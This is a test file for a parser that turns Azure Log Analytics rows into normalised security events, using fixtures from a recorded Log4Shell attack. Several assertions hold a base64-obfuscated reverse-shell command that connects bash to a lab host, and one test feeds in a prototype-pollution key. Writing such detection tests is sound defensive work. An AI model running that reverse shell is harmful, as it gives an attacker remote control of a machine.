// azure-log-analytics parser: golden fixtures (rows from the OTRF Log4Shell recording, MIT, see
// ../shared/data/attacks/SOURCE.md, plus made-up rows for the other paths) and the mappings detections
// and chains rely on: the payload's own time, Sysmon field names, the auditd parser's event, columns kept.

import path from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { getField } from "../../../schema/fields.ts";
import type { EcsEvent } from "../../../schema/ecs.ts";
import { parser } from "./index.ts";
import { parser as auditd } from "../linux-auditd/index.ts";
import { defineFixtureTests, fixtureEvents } from "../fixture-test.ts";
import { runParser } from "../conformance.ts";
import { detectFormat } from "../../normalize.ts";

const FIXTURES = path.join(path.dirname(fileURLToPath(import.meta.url)), "fixtures");

describe("azure-log-analytics parser", () => {
  defineFixtureTests(parser, FIXTURES);
  const syslog = fixtureEvents(parser, FIXTURES, "syslog.json");
  const windows = fixtureEvents(parser, FIXTURES, "windows.json");
  const tables = fixtureEvents(parser, FIXTURES, "tables.json");

  it("reads Sysmon for Linux XML as Sysmon events with the Windows parser's field layout, at the event's own time", () => {
    const e = syslog.byLine.get(2)!;
    // Sysmon's own TimeCreated, not the time the row reached the workspace
    expect(e["@timestamp"]).toBe(new Date(/SystemTime="([^"]+)"/.exec(e.event.original!)![1]).toISOString());
    expect(e.event).toMatchObject({ code: "1", module: "sysmon_linux", dataset: "sysmon_linux.log", category: ["process"], type: ["start"] });
    expect(getField(e, "winlog.channel")).toBe("Linux-Sysmon/Operational");
    expect(getField(e, "winlog.event_data.Image")).toBe("/usr/bin/whoami");
    expect(e.process).toMatchObject({ executable: "/usr/bin/whoami", name: "whoami", command_line: "whoami", parent: { name: "bash" } });
    expect(e.process?.entity_id).toMatch(/^\{[0-9a-f-]+\}$/);
    expect(e.host).toMatchObject({ name: "UBUNTU5", os: { type: "linux" }, ip: ["192.168.2.5"] });
    expect(e.user).toMatchObject({ name: "tomcat" });
    expect(e.event.original).toContain("<EventID>1</EventID>");
  });

  it("keeps what a truncated Sysmon message holds and tags the event", () => {
    const e = syslog.byLine.get(1)!;
    expect(e.tags).toContain("truncated");
    expect(e.process).toMatchObject({ executable: "/bin/bash", command_line: "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}" });
    expect(e.process?.parent?.executable).toBe("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java");
    expect(String(getField(e, "winlog.event_data.ParentCommandLine"))).toMatch(/^\/usr\/lib\/jvm\/java-1\.8\.0-openjdk-amd64\/bin\/java -Djava/);
  });

  it("turns AUOMS execve records into the event the linux-auditd parser makes of the same syscall", () => {
    const e = syslog.byLine.get(4)!;
    expect(e.event).toMatchObject({ module: "auditd", dataset: "auditd.log", category: ["process"], type: ["start"], outcome: "success" });
    expect(e["@timestamp"]).toBe("2022-05-11T18:10:21.990Z");
    expect(e.process).toMatchObject({ pid: 17790, executable: "/bin/bash", name: "bash", args: ["bash", "-c", "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"], parent: { pid: 1340 } });
    expect(getField(e, "auditd.message_type")).toEqual(expect.arrayContaining(["SYSCALL", "EXECVE", "CWD", "PATH"]));
    expect(getField(e, "auditd.data.a1")).toBe("-c");
    expect(getField(e, "auditd.data.key")).toBe("auoms,delete");
    expect(e.user).toMatchObject({ id: "1001", name: "tomcat" });
    // the same records written by auditd itself give the same ECS fields
    const native = runParser(auditd, [
      'type=SYSCALL msg=audit(1652292621.990:84143): arch=c000003e syscall=59 success=yes exit=0 a0=7fcd3bdfb8e0 a1=7fcd3027b7b0 a2=7ffccab2a7d8 a3=b ppid=1340 pid=17790 auid=4294967295 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=(none) ses=-1 comm="bash" exe="/bin/bash" key="auoms,delete"\x1dARCH=x86_64 SYSCALL=execve AUID="unset" UID="tomcat" GID="tomcat" EUID="tomcat" SUID="tomcat" FSUID="tomcat" EGID="tomcat" SGID="tomcat" FSGID="tomcat"',
      `type=EXECVE msg=audit(1652292621.990:84143): argc=3 a0="bash" a1="-c" a2=${Buffer.from("{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}").toString("hex")}`,
      "type=EOE msg=audit(1652292621.990:84143):",
    ]).events[0];
    for (const k of ["process.pid", "process.parent.pid", "process.executable", "process.name", "user.id", "user.name", "event.category", "event.type", "event.outcome"]) expect(getField(e, k), k).toEqual(getField(native, k));
    // a failed execve (java searching its PATH for bash) keeps its outcome
    const failed = syslog.byLine.get(5)!;
    expect(failed.event.outcome).toBe("failure");
    expect(failed.process?.executable).toBe("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java");
  });

  it("reads other syslog messages as the RFC 5424 parser does, with authentication enriched", () => {
    const e = syslog.byLine.get(6)!;
    expect(e.event).toMatchObject({ dataset: "system.auth", outcome: "success" });
    expect(e.event.category).toContain("authentication");
    expect(e.user?.name).toBe("alice");
    expect(e.source?.ip).toBe("203.0.113.7");
    expect(e["@timestamp"]).toBe("2022-05-11T18:11:00.000Z");
  });

  it("rejects rows without a usable time or payload, naming the line and the reason", () => {
    expect(syslog.rejections.map((r) => [r.record.line, r.code])).toEqual([
      [7, "azure_bad_timestamp"],
      [8, "azure_not_a_row"],
      [9, "azure_bad_payload"],
      [10, "json_invalid"],
    ]);
    expect(tables.rejections.map((r) => [r.record.line, r.code])).toEqual([[4, "azure_not_a_row"]]);
  });

  it("reads SecurityEvent (XML EventData) and WindowsEvent (JSON EventData) as the Windows parser's events", () => {
    const proc = windows.byLine.get(1)!;
    expect(proc.event).toMatchObject({ code: "4688", module: "security", dataset: "system.security", category: ["process"] });
    expect(proc.process?.command_line).toBeTruthy();
    // SecurityEvent rows carry the event's time as TimeGenerated
    expect(proc["@timestamp"]).toBe(new Date(String(getField(proc, "azure.log_analytics.columns.TimeGenerated"))).toISOString());
    const conn = windows.byLine.get(2)!;
    expect(conn.source).toEqual({ ip: "192.168.3.5", port: 50452 });
    expect(conn.destination).toEqual({ ip: "192.168.2.5", port: 8080 });
    const sysmon = windows.byLine.get(3)!;
    expect(sysmon.event).toMatchObject({ code: "1", module: "sysmon", dataset: "windows.sysmon_operational" });
    expect(getField(sysmon, "winlog.event_data.ParentImage")).toMatch(/tomcat9\.exe$/i);
    // Sysmon's UtcTime, not the time the row reached the workspace
    expect(sysmon["@timestamp"]).toBe(new Date(String(getField(sysmon, "winlog.event_data.UtcTime"))).toISOString());
    expect(windows.byLine.get(4)!.event).toMatchObject({ code: "10", category: ["process"] });
  });

  it("maps VMConnection rows to network connections and keeps every table's columns", () => {
    const e = tables.byLine.get(1)!;
    expect(e.event).toMatchObject({ dataset: "azure.vmconnection", category: ["network"], type: ["connection"], action: "outbound_connection" });
    expect(e).toMatchObject({ source: { ip: "192.168.2.5", bytes: 218 }, destination: { ip: "192.168.2.6", port: 8888, bytes: 1220 }, network: { direction: "egress", transport: "tcp" }, process: { name: "java" } });
    expect(e["@timestamp"]).toBe("2022-05-11T18:09:38.868Z");
    const hb = tables.byLine.get(3)! as EcsEvent;
    expect(hb.event.dataset).toBe("azure.heartbeat");
    expect(getField(hb, "azure.log_analytics.table")).toBe("Heartbeat");
    expect(getField(hb, "azure.log_analytics.columns.OSType")).toBe("Linux");
    expect(hb.cloud).toEqual({ provider: "azure", account: { id: "0000-1111" } });
    // a hostile key is kept under a safe name, never as a prototype
    expect(Object.getPrototypeOf(getField(hb, "azure.log_analytics.columns"))).toBe(Object.prototype);
    expect(getField(hb, "azure.log_analytics.columns._proto_")).toEqual({ polluted: 1 });
  });

  it("is chosen over the Windows parser for Log Analytics rows, and not for plain Windows events", () => {
    const rows = [...windows.events, ...syslog.events].map((e) => JSON.stringify(getField(e, "azure.log_analytics.columns")));
    expect(detectFormat(rows)?.format).toBe("azure-log-analytics");
    expect(parser.detect('{"EventID":4688,"Channel":"Security","Hostname":"WS1","@timestamp":"2024-01-01T00:00:00Z"}')).toBe(0);
  });
});
